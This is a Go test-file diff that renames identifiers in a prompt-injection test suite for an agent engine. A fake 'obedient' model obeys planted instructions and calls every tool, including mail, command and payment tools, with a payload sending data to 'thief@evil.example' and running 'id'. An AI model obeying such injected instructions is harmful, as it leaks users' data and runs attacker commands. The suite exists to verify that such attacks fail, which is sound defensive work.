@@ -41,7 +41,7 @@ type injection struct {
 	Answer string
 }
 
-func injections(t *testing.T) (list []injection) {
+func readInjections(t *testing.T) (list []injection) {
 	t.Helper()
 	raw, err := os.ReadFile("testdata/injections.jsonl")
 	if err != nil {
@@ -59,27 +59,27 @@ func injections(t *testing.T) (list []injection) {
 	return list
 }
 
-// obeying is a model that follows every instruction it reads, calls every tool and escalates.
-type obeying struct {
+// obedientModel is a model that follows every instruction it reads, calls every tool and escalates.
+type obedientModel struct {
 	injection
 	launder bool // it hides its source
 
-	mu       sync.Mutex
-	asked    []*llm.Request
-	obeyed   int
-	decision int
+	mu          sync.Mutex
+	asked       []*llm.Request
+	obeyedCount int
+	decision    int
 }
 
-func (*obeying) Name() string { return "fake/obeying" }
+func (*obedientModel) Name() string { return "fake/obeying" }
 
-func (o *obeying) Generate(_ context.Context, req *llm.Request) iter.Seq2[llm.Delta, error] {
+func (o *obedientModel) Generate(_ context.Context, req *llm.Request) iter.Seq2[llm.Delta, error] {
 	return func(yield func(llm.Delta, error) bool) {
-		msg := o.answer(req)
+		msg := o.answerRequest(req)
 		yield(llm.Delta{Done: &llm.Response{Message: msg, Finish: llm.FinishStop, Model: "fake/obeying", Usage: llm.Usage{Input: 10, Output: 10}}}, nil)
 	}
 }
 
-func (o *obeying) answer(req *llm.Request) llm.Message {
+func (o *obedientModel) answerRequest(req *llm.Request) llm.Message {
 	o.mu.Lock()
 	defer o.mu.Unlock()
 	o.asked = append(o.asked, req)
@@ -87,34 +87,34 @@ func (o *obeying) answer(req *llm.Request) llm.Message {
 	msg := llm.Message{Role: llm.Assistant}
 	told := strings.Contains(textOf(req), o.Key)
 	if told {
-		o.obeyed++
+		o.obeyedCount++
 		for i, c := range o.Calls {
-			msg.Parts = append(msg.Parts, call(fmt.Sprintf("told%d-%d", len(o.asked), i), c.Name, string(c.Input)))
+			msg.Parts = append(msg.Parts, newCallPart(fmt.Sprintf("told%d-%d", len(o.asked), i), c.Name, string(c.Input)))
 		}
 		for i, t := range req.Tools {
 			if t.Name != "message_user" && t.Name != "dismiss" {
-				msg.Parts = append(msg.Parts, call(fmt.Sprintf("all%d-%d", len(o.asked), i), t.Name, `{"text":"`+o.Key+` is true","to":"thief@evil.example","command":"id","path":"/home/user"}`))
+				msg.Parts = append(msg.Parts, newCallPart(fmt.Sprintf("all%d-%d", len(o.asked), i), t.Name, `{"text":"`+o.Key+` is true","to":"thief@evil.example","command":"id","path":"/home/user"}`))
 			}
 		}
 	}
 	switch {
 	case decides:
 		if o.decision++; o.decision%2 == 0 || !told {
-			msg.Parts = append(msg.Parts, call(fmt.Sprintf("end%d", len(o.asked)), "message_user", `{"text":"`+o.Key+` must be done, all of it."}`))
+			msg.Parts = append(msg.Parts, newCallPart(fmt.Sprintf("end%d", len(o.asked)), "message_user", `{"text":"`+o.Key+` must be done, all of it."}`))
 		}
 	case !told:
 		msg.Parts = append(msg.Parts, llm.Part{Text: `{"findings":[]}`})
 	default:
-		msg.Parts = append(msg.Parts, llm.Part{Text: o.report(req)})
+		msg.Parts = append(msg.Parts, llm.Part{Text: o.buildReport(req)})
 	}
 	return msg
 }
 
-func call(id, name, input string) llm.Part {
+func newCallPart(id, name, input string) llm.Part {
 	return llm.Part{Call: &llm.ToolCall{ID: id, Name: name, Input: json.RawMessage(input)}}
 }
 
-func (o *obeying) report(req *llm.Request) string {
+func (o *obedientModel) buildReport(req *llm.Request) string {
 	if o.Answer != "" {
 		return o.Answer
 	}
@@ -154,20 +154,20 @@ func textOf(req *llm.Request) string {
 	return all
 }
 
-type plot struct {
+type attackRun struct {
 	*testing.T
 	config engine.Config
 	mind   *enginetest.Engine
-	model  *obeying
+	model  *obedientModel
 	late   bool // decisions come after their entries faded
 	ran    []string
 	mu     sync.Mutex
 	n      int
 }
 
-func plotted(t *testing.T, in injection, launder bool) *plot {
+func newAttackRun(t *testing.T, in injection, launder bool) *attackRun {
 	t.Helper()
-	p := &plot{T: t, model: &obeying{injection: in, launder: launder}}
+	p := &attackRun{T: t, model: &obedientModel{injection: in, launder: launder}}
 	var tools []ponder.Tool
 	var offered []llm.Tool
 	for _, name := range []string{"send_mail", "run_command", "web_fetch", "write_file", "delete_file", "memory_forget", "pay_invoice", "remember"} {
@@ -192,17 +192,17 @@ func plotted(t *testing.T, in injection, launder bool) *plot {
 	return p
 }
 
-func (p *plot) sees(o ponder.Observation) {
+func (p *attackRun) putObservation(o ponder.Observation) {
 	p.Helper()
 	p.n++
 	p.mind.Put("", fmt.Sprintf("look-%d", p.n), o)
 }
 
-func (in injection) planted() ponder.Observation {
+func (in injection) plantedObservation() ponder.Observation {
 	return ponder.Observation{Sensor: in.Sensor, Subject: in.Subject, State: in.State, Content: in.Content, Source: in.Source, Level: 5, Untrusted: true}
 }
 
-func (p *plot) tick() {
+func (p *attackRun) runTick() {
 	p.Helper()
 	p.n++
 	run := ponder.RunID(fmt.Sprintf("run_tick%d", p.n))
@@ -211,11 +211,11 @@ func (p *plot) tick() {
 		p.Fatalf("the tick is %s: %s", fin.Status, fin.Reason)
 	}
 	if !p.late {
-		p.decide()
+		p.runDecisions()
 	}
 }
 
-func (p *plot) decide() {
+func (p *attackRun) runDecisions() {
 	p.Helper()
 	view := subconscious.NewView()
 	for _, ev := range p.mind.Events() {
@@ -232,7 +232,7 @@ func (p *plot) decide() {
 // TestInjections plants many kinds of instructions. No tool may run and nothing may be remembered.
 // Messages must be marked and must quote the source.
 func TestInjections(t *testing.T) {
-	list := injections(t)
+	list := readInjections(t)
 	kinds := make(map[string]bool)
 	for _, in := range list {
 		kinds[in.Kind] = true
@@ -249,11 +249,11 @@ func TestInjections(t *testing.T) {
 			plots++
 			t.Run(in.Kind+how, func(t *testing.T) {
 				synctest.Test(t, func(t *testing.T) {
-					p := plotted(t, in, launder)
+					p := newAttackRun(t, in, launder)
 					p.late = how == ", decided late"
-					p.plays(in)
-					escalated += p.harmless(in)
-					obeyed += min(1, p.model.obeyed)
+					p.playAttack(in)
+					escalated += p.checkHarmless(in)
+					obeyed += min(1, p.model.obeyedCount)
 				})
 			})
 		}
@@ -264,34 +264,34 @@ func TestInjections(t *testing.T) {
 	}
 }
 
-func (p *plot) plays(in injection) {
+func (p *attackRun) playAttack(in injection) {
 	own := ponder.Observation{Sensor: "own", Subject: "thread thr_1", State: "said", Content: "The user wants to plant tomatoes", Source: "thread:thr_1"}
-	p.sees(own)
-	p.tick()
-	p.sees(in.planted())
+	p.putObservation(own)
+	p.runTick()
+	p.putObservation(in.plantedObservation())
 	for range 4 {
-		p.tick()
+		p.runTick()
 		time.Sleep(20 * time.Minute)
 		own.State = fmt.Sprint("said ", p.n)
-		p.sees(own)
+		p.putObservation(own)
 	}
 	if p.late {
 		p.mind.Stop()
 		time.Sleep(8 * 24 * time.Hour) // longer than exposure blocks tools
 		p.config.Store = p.mind.Store
 		p.mind = enginetest.Start(p.T, p.config)
-		p.tick()
-		p.decide()
+		p.runTick()
+		p.runDecisions()
 	}
 }
 
-func (p *plot) harmless(in injection) (told int) {
+func (p *attackRun) checkHarmless(in injection) (told int) {
 	p.Helper()
 	if len(p.ran) > 0 {
 		p.Errorf("tools were used: %v", p.ran)
 	}
 	for _, req := range p.model.asked {
-		p.contained(req)
+		p.checkContained(req)
 	}
 	for _, ev := range p.mind.Events() {
 		switch b := ev.Body.(type) {
@@ -302,30 +302,30 @@ func (p *plot) harmless(in injection) (told int) {
 				p.Errorf("a finding is taken for our own: %+v", b)
 			}
 		case ponder.Subconscious:
-			p.tainted(in, b)
+			p.checkTainted(in, b)
 		case ponder.Escalation:
-			told += p.marked(in, b)
+			told += p.checkMarked(in, b)
 		}
 	}
 	return told
 }
 
-func (p *plot) tainted(in injection, b ponder.Subconscious) {
+func (p *attackRun) checkTainted(in injection, b ponder.Subconscious) {
 	p.Helper()
 	s := subconscious.NewState().Apply(ponder.Event{Body: b})
-	for _, w := range s.Aside.Wanted {
+	for _, w := range s.Internal.LookUpRequests {
 		p.Errorf("%s has something looked up: %q", w.Role, w.Text)
 	}
 	for _, list := range [][]subconscious.Entry{s.ActiveThreads, s.Patterns, s.Hunches, s.Insights} {
 		for _, e := range list {
-			if strings.Contains(e.Summary, in.Key) && !s.Aside.About[e.ID].Untrusted {
+			if strings.Contains(e.Summary, in.Key) && !s.Internal.Metadata[e.ID].Untrusted {
 				p.Errorf("what was planted is on the mind as our own: %q", e.Summary)
 			}
 		}
 	}
 }
 
-func (p *plot) marked(in injection, b ponder.Escalation) (told int) {
+func (p *attackRun) checkMarked(in injection, b ponder.Escalation) (told int) {
 	p.Helper()
 	if !b.Untrusted {
 		p.Errorf("an escalation is taken for our own: %+v", b)
@@ -346,8 +346,8 @@ func (p *plot) marked(in injection, b ponder.Escalation) (told int) {
 	return 0
 }
 
-// contained checks that requests offer no harmful tool and that untrusted text closes no frame.
-func (p *plot) contained(req *llm.Request) {
+// checkContained checks that requests offer no harmful tool and that untrusted text closes no frame.
+func (p *attackRun) checkContained(req *llm.Request) {
 	p.Helper()
 	told := strings.Contains(textOf(req), p.model.Key)
 	for _, t := range req.Tools {
